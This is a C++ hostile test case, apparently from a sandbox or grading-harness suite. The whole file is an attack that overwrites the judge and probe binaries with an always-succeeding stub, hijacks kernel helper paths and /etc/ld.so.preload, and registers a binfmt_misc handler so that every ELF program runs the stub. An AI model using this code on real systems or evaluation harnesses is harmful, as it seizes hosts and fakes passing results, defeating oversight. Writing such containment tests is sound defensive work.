// Mistake: it takes the place of the judge, the probe and all programs
// Fails: 00.1
// Says: something else than the command|root is still the host

#include <fcntl.h>
#include <fmt/format.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>

#include "tests/hostile/tools.h"

void attack(const std::string& root) {
  const std::string mine = "/tmp/mine";
  std::ofstream(mine) << "#!/bin/sh\nexit 0\n";
  ::chmod(mine.c_str(), 0755);
  for (const auto& path : {std::string("/job/judge"), std::string("/job/probe"),
                           std::string("/judge/probe"), root + "/probe",
                           std::string("/etc/ld.so.preload")}) {
    std::ofstream(path + ".new") << "#!/bin/sh\nexit 0\n";
    ::chmod((path + ".new").c_str(), 0755);
    (void)::rename((path + ".new").c_str(), path.c_str());
  }
  for (const auto* helper :
       {"/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper",
        "/proc/sys/kernel/poweroff_cmd"}) {
    (void)hostile::write_to(helper, mine);
  }
  // Whatever is run from now on is to be run by us.
  (void)::mount("binfmt_misc", "/proc/sys/fs/binfmt_misc", "binfmt_misc", 0,
                nullptr);
  (void)hostile::write_to("/proc/sys/fs/binfmt_misc/register",
                          ":all:M::\\x7fELF::/tmp/mine:");
}
